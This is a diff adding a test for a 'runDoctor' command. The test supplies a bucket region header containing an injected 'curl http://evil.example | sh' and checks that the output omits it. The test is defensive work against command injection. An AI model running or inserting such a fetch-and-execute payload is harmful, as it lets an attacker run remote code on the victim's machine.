@@ -759,3 +759,9 @@ it('runDoctor says so when there is nothing to check', async () => {
   ])
   expect(exitCode).toBe(2)
 })
+
+it("runDoctor puts nothing into a command that is no region's name, whatever the store says", async () => {
+  const region = 'us-east-1; curl http://evil.example | sh'
+  const { text } = await examineBucket({ 'HEAD bucket': { status: 301, headers: { 'x-amz-bucket-region': region } } })
+  expect(text).not.toContain('evil')
+})
